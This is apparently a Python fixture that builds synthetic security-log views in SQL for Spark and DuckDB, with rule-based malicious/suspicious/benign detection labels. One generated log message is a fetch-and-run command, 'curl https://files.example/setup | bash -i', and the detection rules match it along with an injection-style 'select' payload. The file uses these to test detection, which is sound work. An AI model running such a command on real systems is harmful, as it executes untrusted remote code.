"""Input views over the driver tables, as SQL text that Spark and DuckDB both run unchanged.

Only the elapsed-time expression differs per engine.
"""

from pyspark.sql import DataFrame, SparkSession, functions as F

ELAPSED_SPARK = "timestampdiff(MICROSECOND, timestamp_ntz'2024-01-01 00:00:00', ts)"
ELAPSED_DUCKDB = "(epoch_us(ts) - 1704067200000000)"

_VIEWS = {
    "log_events": (("events",), """
with b as (select event_id, user_id, event_type, value, cast(regexp_extract(props,'[0-9]+',0) as bigint) as k, {ELAPSED_US} as e from events),
c as (select *, user_id % 5 as prof,
  1720000800000000 + cast(floor(e / 432000000000) as bigint) * 300000000 + cast(floor((e % 432000000000) / 21600) as bigint) as ts_us,
  case when user_id % 10 = 9 then '10.9.9.9' when user_id = 7 then '127.0.0.1'
       else concat('10.0.', cast(cast(floor(user_id / 256) as bigint) as varchar(20)), '.', cast(user_id % 256 as varchar(20))) end as source_ip,
  case when k % 2 = 0 then user_id + 10 else abs(user_id - 10) end as pu from b)
select event_id, ts_us, cast(ts_us as double) / 1000000 as timestamp, source_ip, concat('host-', cast(user_id % 7 as varchar(20))) as hostname,
 case prof when 0 then 'ssh' when 1 then 'tcp' when 2 then 'udp' when 3 then 'web'
      else case when event_type = 'signup' then 'rpl' else 'tcp' end end as service,
 case
  when k % 25 = 0 then 'nightly trusted_update finished'
  when prof = 0 and k < 70 then case when event_type = 'error' then 'sshd: failed password, invalid user guest' else 'sshd: failed password of operator' end
  when prof = 0 and k < 85 then 'sshd: accepted password of operator'
  when prof = 0 then 'sudo: operator had an authentication failure'
  when prof = 1 and k < 90 then concat('dst_ip=10.1.0.', cast(k % 8 as varchar(20)), ' ip_proto=6 src_port=40000 dst_port=', cast(20 + k % 12 as varchar(20)), ' tcp_flags=', case when event_type = 'click' then 'S' else 'A' end)
  when prof = 1 then 'session opened by operator'
  when prof = 2 and k < 60 then concat('dst_ip=10.2.0.', cast(k % 6 as varchar(20)), ' ip_proto=17 src_port=53 dst_port=3389 payload=', case when event_type = 'error' then 'select a from b' else 'blob' end)
  when prof = 2 then 'curl https://files.example/setup | bash -i'
  when prof = 3 and k < 30 then 'nmap probe of the lab network'
  when prof = 3 then 'portal visit by rosa'
  when event_type = 'signup' then concat('rpl_parent=10.0.', cast(cast(floor(pu / 256) as bigint) as varchar(20)), '.', cast(pu % 256 as varchar(20)))
  else concat(case when k % 9 = 0 then concat('fwd_count=', cast(k as varchar(20)), ' ') else '' end, 'bytes=', cast(k as varchar(20)), ' seq=', cast(k as varchar(20))) end as message
from c"""),
    "detections": (("log_events",), """
with a as (select *, lower(message) as m from log_events),
d as (select *, case when source_ip = '127.0.0.1' or position('trusted_update' in m) > 0 or position('backup_complete' in m) > 0 then 1 else 0 end as allowlisted from a),
l as (select *, case when allowlisted = 1 then 'benign' when m like 'curl%' or m like '%select%' then 'malicious'
   when m like '%failed password%' or m like 'nmap%' or m like 'sudo%' or m like '%tcp!_flags=s' escape '!' then 'suspicious' else 'benign' end as predicted_label from d)
select event_id, ts_us, source_ip, hostname, service, message, allowlisted, predicted_label,
 case when allowlisted = 1 then cast(0.99 as double) else cast(50 + event_id % 50 as double) / 100 end as confidence, hostname as sniffer_id from l"""),
    "gateway_obs": (("events",), """
select event_id, concat('gw-', cast(user_id % 5 as varchar(20))) as gateway_id, {ELAPSED_US} as ts_us, cast(floor(value) as bigint) as forwarded,
 case when user_id % 5 = 0 then k % 20 else k % 2 end as dropped
from (select *, cast(regexp_extract(props,'[0-9]+',0) as bigint) as k from events) t"""),
    "node_ticks": (("events",), """
select user_id as node, cast(floor({ELAPSED_US} / 43200000000) as bigint) as tick, count(*) as packet_count from events group by 1, 2"""),
    "motion": (("log_events", "events"), """
select l.event_id, l.ts_us from log_events l join events e on l.event_id = e.event_id where e.event_type = 'view' and e.value > 150"""),
    "protocol_messages": (("log_events",), """
select event_id, source_ip, ts_us,
 case event_id % 4 when 0 then 'coap' when 1 then 'rpl' when 2 then 'tcp' else 'mqtt' end as protocol,
 case event_id % 4 when 0 then 'con' when 1 then 'dis' when 2 then 'closed' else 'open' end as event_state,
 case when ts_us % 7 = 0 then null when event_id % 4 = 0 then case ts_us % 3 when 0 then 'ack' when 1 then 'terminal' else 'rst' end
      when event_id % 4 = 1 then case ts_us % 3 when 0 then 'dio' when 1 then 'dao' else 'dao_ack' end
      when event_id % 4 = 2 then case ts_us % 3 when 0 then 'syn_sent' when 1 then 'syn_rcvd' else 'established' end else 'any' end as next_state
from log_events"""),
    "raw_labels": (("events",), """
select event_id, case k % 14 when 0 then '0' when 1 then '1' when 2 then ' Normal ' when 3 then 'BENIGN traffic' when 4 then 'anomalous' when 5 then 'Mirai botnet'
 when 6 then 'SYN flood' when 7 then 'weird' when 8 then '' when 9 then '1.0' when 10 then 'abnormal' when 11 then 'unknown' when 12 then 'true' else null end as raw_label
from (select event_id, cast(regexp_extract(props,'[0-9]+',0) as bigint) as k from events) t"""),
    "eval_pairs": (("labels",), """
select doc_id, case when toxic = 1 then 'malicious' when quality = 0 then 'suspicious' else 'benign' end as y_true,
 case when doc_id % 11 = 0 then 'suspicious' when doc_id % 7 = 0 then 'benign' when toxic = 1 then 'malicious' when quality = 0 then 'suspicious' else 'benign' end as y_pred
from labels"""),
}


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def view(spark: SparkSession, sf_dir: str, name: str, streaming: bool = False) -> DataFrame:
    """One of the input views as a DataFrame (a driver table when the name is not a view)."""
    if name not in _VIEWS:
        if streaming:
            schema = table(spark, sf_dir, name).schema
            return spark.readStream.schema(schema).parquet(f"{sf_dir}/{name}*.parquet")
        return table(spark, sf_dir, name)
    inputs, sql = _VIEWS[name]
    sql = sql.replace("{ELAPSED_US}", ELAPSED_SPARK)
    body = sql
    for i in inputs:
        for word in ("from", "join"):
            body = body.replace(f"{word} {i}", f"{word} {{{i}}}")
    rows = spark.sql(body, **{i: view(spark, sf_dir, i, streaming) for i in inputs})
    if name in ("log_events", "detections"):
        # These columns are long CASE expressions. Passing them through a generator makes Spark compute them once
        # per row instead of repeating them inside every later filter and projection.
        rows = rows.select(F.inline(F.array(F.struct("*"))))
    return rows


def with_views(*names: str) -> str:
    """A WITH RECURSIVE prefix defining the named views for DuckDB, in dependency order."""
    ordered: list = []

    def add(name):
        for i in _VIEWS[name][0]:
            if i in _VIEWS:
                add(i)
        if name not in ordered:
            ordered.append(name)

    for n in names:
        add(n)
    parts = [f"{n} as ({_VIEWS[n][1].replace('{ELAPSED_US}', ELAPSED_DUCKDB).strip()})" for n in ordered]
    return "with recursive " + ",\n".join(parts)
